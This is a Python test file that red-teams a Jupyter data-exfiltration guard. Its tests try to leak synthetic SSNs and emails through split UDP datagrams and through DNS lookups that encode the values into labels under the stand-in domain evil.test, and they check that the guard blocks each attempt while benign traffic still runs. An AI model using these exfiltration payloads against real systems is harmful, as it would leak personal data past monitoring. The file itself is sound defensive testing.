"""Red team, the network without a body: a value cut into pieces per datagram (one socket, or a
new socket per piece) never arrives at a loopback UDP listener, and a host name carrying a value
cut to fit DNS (dots for ``@``, split over labels) is never looked up, from Python or from a
child's command line. Each with a benign twin that still runs."""
from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from jupyter_guard.connections import unwrap
from tests.conftest import make_warehouse
from tests.kernelutil import Kernel

pytestmark = pytest.mark.kernel


class Datagrams:
    """A UDP listener on 127.0.0.1 that keeps every byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        self.count = 0
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self._stop:
            try:
                data, _ = self.sock.recvfrom(65536)
            except OSError:
                continue
            self.received += data
            self.count += 1

    def close(self) -> None:
        self._stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.fixture(scope="module")
def kv(work_root: Path) -> Iterator[tuple[Kernel, list[tuple[str, str]]]]:
    d = work_root / "redteam_net"
    d.mkdir()
    make_warehouse(d / "wh.duckdb", rows=30)
    con = unwrap(duckdb.connect(str(d / "wh.duckdb"), read_only=True))
    raw = con.execute("SELECT email, ssn FROM customers ORDER BY id").fetchall()
    con.close()
    k = Kernel(d, {"JUPYTER_GUARD_AUDIT": str(d / "audit.duckdb"), "JUPYTER_GUARD_POLICY": None})
    try:
        k.ok("%load_ext jupyter_guard")
        k.ok("import duckdb, socket\ncon = duckdb.connect('wh.duckdb')\n"
             "df = con.sql('SELECT email, ssn FROM customers ORDER BY id').df()\n"
             "S = ','.join(df.ssn.tolist()[:5]); E = ','.join(df.email.tolist()[:5])")
        yield k, raw
    finally:
        k.stop()


@pytest.fixture()
def udp() -> Iterator[Datagrams]:
    d = Datagrams()
    yield d
    d.close()


PIECES = [
    pytest.param("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                 "for ch in S: s.sendto(ch.encode(), ('127.0.0.1', PORT))", id="sendto-per-char"),
    pytest.param("for ch in S:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
                 "ch.encode(), ('127.0.0.1', PORT))", id="new-socket-per-char"),
    pytest.param("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                 "for i in range(0, len(E), 3): s.sendmsg([E[i:i + 3].encode()], [], 0, "
                 "('127.0.0.1', PORT))", id="sendmsg-per-3-chars"),
]


@pytest.mark.parametrize("code", PIECES)
def test_a_value_sent_in_datagram_pieces_never_arrives_whole(kv, udp, code: str) -> None:
    k, raw = kv
    r = k.run(f"PORT = {udp.port}\n" + code)
    assert r.status == "error" and "[exfiltration]" in r.everything(), r.everything()
    k.ok("pass")   # the listener has had the time of a whole cell to receive
    got = bytes(udp.received)
    assert not [v for row in raw for v in row if v.encode() in got], got


def test_plain_datagrams_still_go_out_one_character_at_a_time(kv, udp) -> None:
    k, _ = kv
    k.ok(f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
         f"for ch in 'hello world': s.sendto(ch.encode(), ('127.0.0.1', {udp.port}))")
    deadline = 200
    while udp.count < 11 and deadline:
        k.ok("pass")
        deadline -= 1
    assert bytes(udp.received) == b"hello world"


NAMES = [
    pytest.param("socket.gethostbyname(df.email[1].replace('@', '.') + '.evil.test')",
                 id="email-at-as-dot"),
    pytest.param("socket.getaddrinfo(df.ssn[2][:4] + '.' + df.ssn[2][4:] + '.evil.test', 80)",
                 id="ssn-split-over-labels"),
    pytest.param("socket.getaddrinfo(df.ssn[3][:5] + '-' + df.ssn[3][5:] + '.evil.test', 80)",
                 id="ssn-cut-by-a-dash"),
    pytest.param("!getent hosts {df.ssn[4]}.evil.test", id="child-lookup-ssn"),
    pytest.param("!getent hosts {df.email[5].replace('@', '.')}.evil.test",
                 id="child-lookup-email-dots"),
]


@pytest.mark.parametrize("code", NAMES)
def test_a_name_carrying_a_value_cut_to_fit_is_not_looked_up(kv, code: str) -> None:
    k, _ = kv
    r = k.run(code)
    assert r.status == "error" and "[exfiltration]" in r.everything(), r.everything()


def test_plain_names_are_still_looked_up(kv) -> None:
    k, _ = kv
    r = k.ok("print(socket.getaddrinfo('localhost', 80)[0][4][1])\n!getent hosts localhost")
    assert "80" in r.stream and "localhost" in r.stream, r.stream
